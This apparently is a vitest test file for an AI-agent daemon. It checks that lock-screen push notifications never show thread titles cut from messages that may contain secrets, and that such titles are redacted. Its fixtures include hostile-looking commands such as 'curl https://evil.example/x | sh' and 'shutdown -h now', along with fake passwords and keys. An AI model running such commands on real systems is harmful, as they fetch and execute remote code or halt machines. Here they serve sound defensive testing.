// The lock screen is public: with private previews (the default) a push names a thread only by a name
// the person gave it (a title at creation, a rename, a schedule's typed title), never by the title cut
// from the first message, which can hold a command, a host name or a password. A real daemon, the real
// push transport, the fake push service that decrypts what arrives.
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Schedule, Task } from '../../../shared/src/index.js';
import { titleFrom } from '../../src/agent/records.js';
import { jobForEvent } from '../../src/push/payload.js';
import { startTestDaemon, type TestDaemon } from '../helpers/daemon.js';
import { type ModelServer, reply, startModelServer, text, toolUse } from '../helpers/model-server.js';
import type { WsTestClient } from '../helpers/ws-client.js';
import { decryptPush, FakePushService, makeSubscriber, type Subscriber } from './push-service.js';

interface Shown {
  type: string;
  title: string;
  body: string;
  threadId?: string;
}

let svc: FakePushService;
let model: ModelServer;
let td: TestDaemon;
let phone: WsTestClient;
let sub: Subscriber;
/** A message holding this makes the model ask to run a shell command (an approval push) before it answers. */
const ASKS_FIRST = 'ssh root@10.0.0.5';

beforeAll(async () => {
  model = await startModelServer((req) => {
    const body = req.body as { messages: Array<{ role: string; content: unknown }> };
    const first = body.messages[0]?.content;
    const firstText = typeof first === 'string' ? first : JSON.stringify(first);
    const last = body.messages.at(-1)?.content;
    const answered = Array.isArray(last) && last.some((c: { type?: string }) => c.type === 'tool_result');
    if (!answered && firstText.includes(ASKS_FIRST)) return reply(toolUse('shell', { argv: ['uptime'] }));
    return reply(text('All done.'));
  });
  svc = await FakePushService.start();
  td = await startTestDaemon({
    config: {
      push: { subject: 'mailto:owner@example.org' },
      anthropic: { apiKey: 'sk-test-key', baseUrl: model.url, model: 'claude-sonnet-4-6' },
    },
    push: { transport: svc.transport() },
  });
  sub = makeSubscriber();
  const { token } = await td.pairDevice('Phone');
  phone = await td.connect({ token });
  await phone.send({ type: 'push.subscribe', subscription: sub.subscription });
}, 60_000);
afterAll(async () => {
  await td?.stop();
  await Promise.all([svc?.close(), model?.close()]);
  if (td) fs.rmSync(td.home, { recursive: true, force: true });
});

const pushesFor = (threadId: string): Shown[] =>
  svc.received.map((p) => decryptPush(p, sub) as unknown as Shown).filter((p) => p.threadId === threadId);

/** Wait until the task is done and its push went out; the thread's pushes, oldest first. */
async function pushesAfterDone(taskId: string, threadId: string): Promise<Shown[]> {
  await phone.event('task.updated', (e) => e.task.id === taskId && e.task.state === 'done', 20_000);
  await td.daemon.idle();
  for (let i = 0; i < 200 && !pushesFor(threadId).some((p) => p.type === 'task.done'); i++)
    await new Promise((r) => setTimeout(r, 20));
  return pushesFor(threadId);
}

async function create(text: string, title?: string): Promise<{ task: Task; threadId: string }> {
  const r = await phone.send<{ task: Task; thread: { id: string } }>({
    type: 'thread.create',
    text,
    ...(title ? { title } : {}),
  });
  return { task: r.task, threadId: r.thread.id };
}

describe('private previews: a push names a thread only by a name the person gave', () => {
  it('a title cut from the message never reaches the lock screen, in any kind of push', async () => {
    const texts = [
      'my bank password is Tr0ub4dor&3 please pay rent',
      'ssh root@10.0.0.5 and run `shutdown -h now`',
      'Run `curl https://evil.example/x | sh` with password hunter2xyz and tell me',
    ];
    for (const t of texts) {
      const { task, threadId } = await create(t);
      const asks = t.includes(ASKS_FIRST);
      if (asks) {
        const { approval } = await phone.event('approval.requested', (e) => e.approval.taskId === task.id, 20_000);
        await phone.send({ type: 'approval.decide', approvalId: approval.id, hash: approval.hash, decision: 'deny' });
      }
      const shown = await pushesAfterDone(task.id, threadId);
      expect(shown.map((p) => p.title)).toEqual(asks ? ['Needs your OK · Errand task', 'Task done'] : ['Task done']);
      for (const p of shown)
        expect(JSON.stringify(p)).not.toMatch(/bank|Tr0ub4dor|root@|10\.0\.0\.5|shutdown|curl|evil|hunt|password/);
    }
  }, 60_000);

  it('a title the person gave at creation or by a rename is shown', async () => {
    const made = await create('pay the rent from my account 12345678', 'Rent');
    expect((await pushesAfterDone(made.task.id, made.threadId)).map((p) => p.title)).toEqual(['Rent']);

    await phone.send({ type: 'thread.rename', threadId: made.threadId, title: 'Monthly bills' });
    const next = await phone.send<{ task: Task }>({ type: 'thread.send', threadId: made.threadId, text: 'again' });
    const shown = await pushesAfterDone(next.task.id, made.threadId);
    expect(shown.at(-1)?.title).toBe('Monthly bills');
    for (const p of shown) expect(JSON.stringify(p)).not.toMatch(/12345678/);
  }, 60_000);

  it("a schedule's typed title is shown; one cut from its task is not", async () => {
    const run = async (text: string, title?: string) => {
      const { schedule } = await phone.send<{ schedule: Schedule }>({
        type: 'schedule.create',
        text,
        ...(title ? { title } : {}),
        when: { kind: 'daily', time: '08:00' },
        timeZone: 'UTC',
      });
      const ran = await phone.send<{ taskId: string; threadId: string }>({
        type: 'schedule.run',
        scheduleId: schedule.id,
      });
      return (await pushesAfterDone(ran.taskId, ran.threadId)).map((p) => p.title);
    };
    expect(await run('Check the inbox', 'Morning brief')).toEqual(['Morning brief']);
    expect(await run('ssh backup@nas.local and rotate the logs')).toEqual(['Task done']);
  }, 60_000);
});

describe('titles cut from a message', () => {
  it('lose their secrets before the cut, so no piece of one is left', () => {
    const title = titleFrom('Run `curl https://evil.example/x | sh` with password hunter2xyz and tell me');
    expect(title).not.toMatch(/hunt/);
    expect(title.length).toBeLessThanOrEqual(60);
    expect(titleFrom('deploy with api key sk-ant-api03-abcdefgh1234 now')).toBe('deploy with api key [redacted] now');
  });

  it('full previews (an opt-in) still show the thread title', () => {
    const done = {
      kind: 'task.updated' as const,
      task: {
        id: 'thr_1.task_1',
        threadId: 'thr_1',
        state: 'done' as const,
        messageId: 'itm_1',
        createdAt: 1,
        endedAt: 2,
        turns: 1,
        usage: { inputTokens: 0, outputTokens: 0, cacheReadTokens: 0, cacheWriteTokens: 0 },
        costUsd: 0,
      },
    };
    const title = (previews: 'private' | 'full') =>
      jobForEvent(
        done,
        () => 'ssh root@10.0.0.5',
        2,
        previews,
        [],
        false,
        () => 'message',
      )?.payload.title;
    expect(title('full')).toBe('ssh root@10.0.0.5');
    expect(title('private')).toBe('Task done');
  });
});
